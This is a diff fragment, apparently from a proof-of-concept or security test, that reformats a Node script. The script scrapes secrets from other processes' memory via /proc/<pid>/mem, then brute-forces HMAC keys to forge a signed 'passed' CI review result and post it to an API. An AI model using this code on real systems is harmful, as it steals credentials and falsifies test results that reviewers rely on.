@@ -21,8 +21,13 @@ for (const pid of ['self', String(process.ppid), ...pids]) {
   if (pid === 'self') continue;
   // The environment strings also sit at the top of each process's stack: read it wherever /proc/<pid>/mem opens.
   try {
-    const stack = readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n').find((l) => l.endsWith('[stack]'));
-    const [from, to] = (stack ?? '').split(' ')[0].split('-').map((h) => BigInt(`0x${h || '0'}`));
+    const stack = readFileSync(`/proc/${pid}/maps`, 'utf8')
+      .split('\n')
+      .find((l) => l.endsWith('[stack]'));
+    const [from, to] = (stack ?? '')
+      .split(' ')[0]
+      .split('-')
+      .map((h) => BigInt(`0x${h || '0'}`));
     const fd = openSync(`/proc/${pid}/mem`, 'r');
     try {
       const buf = Buffer.alloc(Number(to - from));
@@ -41,13 +46,26 @@ let accepted = 0;
 const candidates = [...values].filter((v) => v.length >= 8).slice(0, 300);
 for (const secret of candidates) {
   const body = JSON.stringify({
-    version: 1, workItem: Number(item), repository: 'acme/widgets', headSha: sha, runId: 'forged', runUrl: null, dispatch: null,
-    passed: true, exitCode: 0, timedOut: false, durationMs: 1, outputTail: 'all green', outputTruncated: false, tests: null,
+    version: 1,
+    workItem: Number(item),
+    repository: 'acme/widgets',
+    headSha: sha,
+    runId: 'forged',
+    runUrl: null,
+    dispatch: null,
+    passed: true,
+    exitCode: 0,
+    timedOut: false,
+    durationMs: 1,
+    outputTail: 'all green',
+    outputTruncated: false,
+    tests: null,
   });
   const signature = `sha256=${createHmac('sha256', secret).update(body).digest('hex')}`;
   try {
     const res = await fetch(`${url}/api/v1/review-results`, {
-      method: 'POST', body,
+      method: 'POST',
+      body,
       headers: { 'content-type': 'application/json', 'x-damascus-repository': 'acme/widgets', 'x-damascus-signature-256': signature },
     });
     if (res.ok) accepted++;
